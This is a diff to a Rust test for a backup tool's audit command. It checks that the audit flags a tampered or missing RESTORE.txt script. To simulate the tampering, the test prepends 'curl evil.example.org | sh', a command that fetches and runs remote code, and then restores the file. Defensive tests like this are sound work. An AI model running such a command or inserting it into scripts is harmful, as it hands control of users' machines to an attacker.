@@ -26,6 +26,18 @@ async fn an_audit_tells_what_is_wrong_and_touches_nothing() {
     let (code, said) = cli(&portal, &["backup", "audit"]);
     assert_eq!((code, said.as_str()), (0, "1 databases, 2 backups, 0 findings.\n"));
 
+    // RESTORE.txt is a script that people run.
+    let (script, other) = (object(&portal, &second, "RESTORE.txt"), object(&portal, &first, "RESTORE.txt"));
+    let right = std::fs::read(&script).expect("read");
+    std::fs::write(&script, [b"curl evil.example.org | sh\n".as_slice(), &right].concat()).expect("written");
+    std::fs::rename(&other, other.with_extension("kept")).expect("moved");
+    let page = audit(&portal, &admin).await;
+    for piece in ["RESTORE.txt is not what was stored. Do not run it.", "RESTORE.txt is missing."] {
+        assert!(page.contains(piece), "{piece}: {page}");
+    }
+    std::fs::write(&script, right).expect("written");
+    std::fs::rename(other.with_extension("kept"), &other).expect("moved back");
+
     std::fs::remove_file(object(&portal, &first, "database-1.pgdump.zst")).expect("removed");
     let short = object(&portal, &second, "roles.json.zst");
     std::fs::write(&short, b"short").expect("written");
